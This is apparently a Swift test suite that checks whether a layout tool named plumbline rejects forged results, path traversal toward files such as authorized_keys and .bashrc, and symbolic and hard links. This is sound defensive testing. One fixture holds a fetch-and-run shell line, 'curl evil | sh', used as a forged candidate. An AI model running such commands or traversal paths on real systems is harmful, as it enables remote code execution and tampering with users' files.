import Foundation
import TestSupport
import Testing

/// What the command makes of folders, links, results and names that somebody made to do harm: nothing outside of what the
/// user named changes, and no input is replaced.
struct HostileFolderTests {
  private static let layout =
    "canvas: 100x100\nroot: {subviews: {a: {}}}\nconstraints: [\"a.edges == root.edges inset 10\"]\n"

  private let folder: ScratchFolder

  /// A repository with a layout, and a home beside it.
  init() throws {
    folder = try ScratchFolder()
    try folder.write("", to: "repo/.git/HEAD")
    try folder.write(Self.layout, to: "repo/Layouts/a.yaml")
    try folder.write("alias ls=ls\n", to: "home/.bashrc")
    try folder.write("precious", to: "home/victim.txt")
  }

  @discardableResult
  private func run(_ arguments: String..., input: String = "") throws -> Command.Result {
    let plumbline = Plumbline(folder: folder.url.appendingPathComponent("repo"))
    return try plumbline.run(arguments, input: Data(input.utf8))
  }

  private func link(_ path: String, to target: String) throws {
    try FileManager.default.createSymbolicLink(
      atPath: "\(folder.path)/\(path)", withDestinationPath: target)
  }

  private func contents(of name: String) throws -> [String: Data] {
    try ScratchFolder.contents(of: folder.url.appendingPathComponent(name))
  }

  // MARK: Results of others

  /// Results with one outcome, with everything in the folder that its acceptance would need.
  private func forge(record: String, state: String, document: String = "Layouts/a.yaml", candidate: String?)
    throws
  {
    try? FileManager.default.removeItem(atPath: folder.path + "/repo/.plumbline")
    func place(_ path: String) -> String {
      path.replacing("..", with: "__").replacing(#/^\//#, with: "_/")
    }
    if let candidate { try folder.write(candidate, to: "repo/.plumbline/candidates/\(place(record))") }
    let current = record.hasPrefix("/") ? record : "\(folder.path)/repo/\(record)"
    if let text = try? String(contentsOfFile: current, encoding: .utf8) {
      try folder.write(text, to: "repo/.plumbline/records/\(place(record))")
    }
    try folder.write(Self.layout, to: "repo/.plumbline/inputs/\(place(document))")
    let outcome =
      #"{"candidate":"candidates/x","document":"\#(document)","name":"\#(document)","problems":[],"record":"\#(record)","state":"\#(state)","unmet":[]}"#
    try folder.write(
      #"{"allowed":[],"equal":[],"format":1,"isExpecting":false,"isOfVersions":false,"possibleOrphans":[],"skippedCount":0,"version":"0.1.0","outcomes":[\#(outcome)]}"#,
      to: "repo/.plumbline/results.json")
  }

  private static let record = """
    canvas: 100x100
    root: {}
    solved:
      format: 1
      frames:
        root: [0, 0, 100, 100]
    ...

    """

  @Test(arguments: [
    ("/HOME/authorized_keys", "new"), ("../home/authorized_keys", "new"), ("../home/.bashrc", "changed"),
    ("../home/victim.txt", "orphaned"), ("Layouts/../../home/victim.txt", "orphaned"),
    ("Layouts/b.yaml", "new"),
    ("Layouts/__Layouts__/a.yaml/../../../../home/x.layout", "new"),
    ("Layouts/__Layouts__/a.yaml/other.layout", "new"), ("Layouts/a.yaml", "changed"),
    (".git/HEAD", "changed"),
    ("Layouts/a.yaml", "orphaned"),
  ]) func resultsWriteNowhereElse(record: String, state: String) throws {
    let path = record.replacing("/HOME", with: "\(folder.path)/home")
    try forge(record: path, state: state, candidate: Self.record)
    let before = try contents(of: "")
    let accepted = try run("accept", "--all")
    #expect(accepted.status == 2 && accepted.text.isEmpty)
    #expect(try contents(of: "") == before)
  }

  /// The document decides, and must be where the user works.
  @Test func documentsElsewhereHaveToBeNamed() throws {
    try folder.write(Self.layout, to: "home/b.yaml")
    let record = "../home/__Layouts__/b.yaml/b.layout"
    try forge(record: record, state: "new", document: "../home/b.yaml", candidate: Self.record)
    let before = try contents(of: "home")
    let refused = try run("accept", "--all")
    #expect(refused.status == 2 && refused.standardError.contains("name it: plumbline accept FILE"))
    #expect(try contents(of: "home") == before)
    #expect(try run("accept", "../home/b.yaml").status == 0)
    #expect(folder.text(of: "home/__Layouts__/b.yaml/b.layout") == Self.record)
  }

  @Test func candidatesAreRecords() throws {
    try forge(
      record: "Layouts/__Layouts__/a.yaml/a.layout", state: "new", candidate: "#!/bin/sh\ncurl evil | sh\n")
    let refused = try run("accept", "--all")
    #expect(refused.status == 2 && refused.standardError.contains("the candidate is not a record"))
    #expect(folder.text(of: "repo/Layouts/__Layouts__/a.yaml/a.layout") == nil)
  }

  @Test func indicesOfResultsAreChecked() throws {
    try run("record", "Layouts")
    try folder.write(Self.layout.replacing("inset 10", with: "inset 20"), to: "repo/Layouts/a.yaml")
    #expect(try run("verify", "Layouts").status == 1)
    let whole = try #require(folder.text(of: "repo/.plumbline/results.json"))
    for key in ["edits", "effects", "appeared", "resolved", "undecided"] {
      for index in ["99", "-1"] {
        let forged = whole.replacing(
          try Regex("\"\(key)\" ?: ?\\[[ \\n0-9,]*\\]"), with: "\"\(key)\": [\(index)]")
        guard forged != whole else { continue }
        try folder.write(forged, to: "repo/.plumbline/results.json")
        for command in [["report", ".plumbline", "-o", "r.html"], ["review"], ["accept", "--cause", "1"]] {
          let plumbline = Plumbline(folder: folder.url.appendingPathComponent("repo"))
          let result = try plumbline.run(command)
          #expect(result.status == 2 && result.standardError.contains("the results are damaged"))
        }
      }
    }
  }

  // MARK: Folders of others

  @Test func aFolderOfOthersIsNoFolderForResults() throws {
    try folder.write("node_modules\n", to: "repo/other/.gitignore")
    try folder.write("thesis", to: "repo/other/records/thesis.txt")
    try run("record", "Layouts")
    let before = try contents(of: "repo")
    let refused = try run("verify", "Layouts", "--results", "other")
    #expect(refused.status == 2)
    #expect(
      refused.standardError.contains(
        "the folder for results contains other files: '.gitignore' and 'records'"))
    #expect(try contents(of: "repo") == before)
  }

  @Test func layoutsAreNotHiddenByNames() throws {
    let broken = Self.layout.replacing("inset 10", with: "inset 10\", \"a.width == 5")
    try folder.write("*\n", to: "repo/Layouts/x/.gitignore")
    try folder.write(broken, to: "repo/Layouts/x/inputs/bad.yaml")
    #expect(try run("check", "Layouts").status == 1)
    try FileManager.default.removeItem(atPath: folder.path + "/repo/Layouts/x")
    #expect(try run("check", "Layouts").status == 0)
    // Two spellings of one name are two files.
    for (good, bad) in [("\u{E9}", "e\u{301}"), ("e\u{301}", "\u{E9}")] {
      try folder.write(Self.layout, to: "repo/Layouts/\(good).yaml")
      try folder.write(broken, to: "repo/Layouts/\(bad).yaml")
      #expect(try run("check", "Layouts").status == 1)
      #expect(try run("check", "Layouts/\(good).yaml", "Layouts/\(bad).yaml").status == 1)
    }
  }

  @Test func namesThatAreNoTextAreTold() throws {
    let name = [UInt8]("\(folder.path)/repo/Layouts/".utf8) + [0xFF] + [UInt8](".yaml\0".utf8)
    let opened = name.map(CChar.init(bitPattern:)).withUnsafeBufferPointer {
      open($0.baseAddress!, O_CREAT | O_WRONLY, 0o600)
    }
    try #require(opened >= 0)
    close(opened)
    let result = try run("check", "Layouts")
    #expect(result.status == 2 && result.standardError.contains("is not valid UTF-8"))
  }

  // MARK: Links

  @Test(arguments: [
    ("repo/Layouts/__Layouts__", "../../home"), ("repo/Layouts/__Layouts__/a.yaml", "../../../home"),
    ("repo/Layouts/__Layouts__/a.yaml/a.layout", "../../../../home/.bashrc"),
  ]) func recordsStayInTheRepository(path: String, target: String) throws {
    try folder.write("<svg/>", to: "home/logo.svg")
    try folder.write(Self.record, to: "home/other.layout")
    try FileManager.default.createDirectory(
      atPath: (folder.path + "/" + path as NSString).deletingLastPathComponent,
      withIntermediateDirectories: true)
    try link(path, to: target)
    let before = try contents(of: "home")
    #expect(try run("record", "Layouts").status == 2)
    #expect(try run("verify", "Layouts").status == 2)
    #expect(try run("accept", "--all").status == 2)
    #expect(try contents(of: "home") == before)
  }

  @Test func outputStaysInTheRepository() throws {
    try folder.write("", to: "home/out/x")
    try folder.write("~~~plumbline\ncanvas: 20x20\nroot: {}\n~~~\n", to: "repo/post.md")
    for (path, target) in [
      ("output", "../home/out"), ("post", "../home/out"), ("page.html", "../home/.bashrc"),
      (".plumbline", "../home"),
      ("gone.html", "../home/new.html"), ("loop", "loop"),
    ] { try link("repo/\(path)", to: target) }
    let before = try contents(of: "home")
    for arguments in [
      ["render", "Layouts"], ["render", "Layouts", "-o", "output/deep"],
      ["convert", "Layouts", "-o", "output"],
      ["markdown", "post.md"], ["markdown", "post.md", "--images", "output"],
      ["markdown", "post.md", "-o", "page.html"],
      ["verify", "Layouts"], ["verify", "Layouts", "--results", "r", "--report", "page.html"],
      ["verify", "Layouts", "--results", "r", "--report", "gone.html"],
      ["record", "Layouts", "--records", "output"],
      ["render", "Layouts", "-o", "loop"],
    ] {
      let plumbline = Plumbline(folder: folder.url.appendingPathComponent("repo"))
      let result = try plumbline.run(arguments)
      #expect(result.status == 2, "\(arguments)")
      #expect(result.standardError.contains("symbolic link"), "\(arguments): \(result.standardError)")
    }
    #expect(try contents(of: "home") == before)
  }

  @Test func chaptersStayInTheBook() throws {
    let figure = #"```plumbline\ncanvas: 20x20\nroot: {}\n```\n"#
    try folder.write("", to: "home/book/src/a.md")
    for (sources, path) in [("src", "../../../x.md"), ("../..", "x.md"), ("src", "out/x.md")] {
      try? link("home/book/src/out", to: "../..")
      let book =
        #"[{"root":"\#(folder.path)/home/book","config":{"book":{"src":"\#(sources)"}},"renderer":"html","mdbook_version":"0.4"},{"sections":[{"Chapter":{"name":"C","content":"\#(figure)","sub_items":[],"path":"\#(path)"}}]}]"#
      let before = try contents(of: "")
      #expect(try run("mdbook", input: book).status == 2)
      #expect(try contents(of: "") == before)
    }
  }

  // MARK: Inputs

  @Test func inputsAreNotReplaced() throws {
    try run("record", "Layouts")
    try run("render", "Layouts", "--format", "svg", "--embed-source", "-o", "Layouts")
    let before = try contents(of: "repo")
    for arguments in [
      ["convert", "Layouts/a.yaml", "-o", "Layouts"], ["convert", "Layouts", "-o", "Layouts"],
      ["verify", "Layouts", "--report", "Layouts/a.yaml"],
      ["verify", "Layouts", "--report", "Layouts/__Layouts__/a.yaml/a.layout"],
      ["diff", "Layouts/a.yaml", "Layouts/a.svg", "--report", "Layouts/a.svg"],
      ["render", "Layouts/a.yaml", "Layouts/a.svg", "--format", "svg", "-o", "Layouts"],
    ] {
      let plumbline = Plumbline(folder: folder.url.appendingPathComponent("repo"))
      let result = try plumbline.run(arguments)
      #expect(
        result.status == 2 && result.standardError.contains("would"), "\(arguments): \(result.standardError)")
    }
    #expect(try contents(of: "repo") == before)
    // A hard link is the same file.
    try #require(Foundation.link("\(folder.path)/repo/Layouts/a.yaml", "\(folder.path)/repo/page.html") == 0)
    #expect(try run("verify", "Layouts", "--report", "page.html").status == 2)
  }
}
